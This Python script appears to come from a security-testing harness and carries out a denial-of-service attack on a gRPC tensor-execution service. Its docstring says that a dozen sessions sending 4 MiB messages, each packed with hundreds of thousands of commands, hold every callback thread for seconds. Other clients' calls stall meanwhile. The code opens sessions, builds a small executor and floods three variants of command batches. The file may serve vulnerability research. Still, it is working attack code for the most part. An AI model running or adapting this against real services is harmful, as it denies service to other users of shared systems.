"""Messages of 4 MiB that keep the network thread that brings them for seconds: hundreds of thousands of commands,
each done at once. gRPC has two threads a core for callbacks; a dozen sessions are enough to have them all.

Cost: 4 MiB a session. Found: everybody else's calls stand still meanwhile.
"""

import wire
from attack import Attack, Target, run
from sessions import CONTEXT, Session, full_message


def small_executor() -> bytes:
    inputs = [wire.tensor(name, wire.FLOAT32, [8], buffer=1) for name in ("grad_output", "self", "target")]
    output = wire.field(4, wire.tensor("grad_input", wire.FLOAT32, [8], buffer=2))
    return wire.executor(1, CONTEXT, wire.call("L1LossBackward", inputs, reduction=0) + output, True)


def hold(*commands: tuple[int, bytes]):
    message = full_message(*commands)

    def attack(target: Target) -> None:
        connection = target.connect(target.index)
        sessions = []
        for _ in range(4):
            session = Session(connection).begin()
            session.allocate(1, 64)
            session.allocate(2, 64)
            session.send(wire.CREATE_EVENT, wire.ids(1, CONTEXT))
            session.send(wire.CREATE_EXECUTOR, small_executor())
            sessions.append(session)
        for session in sessions:
            connection.message(session.call, message)
        connection.poll_until(lambda: all(session.call.ended for session in sessions), target.seconds)

    return attack


if __name__ == "__main__":
    run(
        Attack(
            [
                hold((wire.RUN_EXECUTOR, wire.ids(1, 1))),
                hold((wire.RECORD_EVENT, wire.ids(1, 1)), (wire.WAIT_EVENT, wire.ids(1, 1))),
                hold((wire.CREATE_CONTEXT, wire.ids(7)), (wire.DESTROY_CONTEXT, wire.ids(7))),
            ]
        )
    )
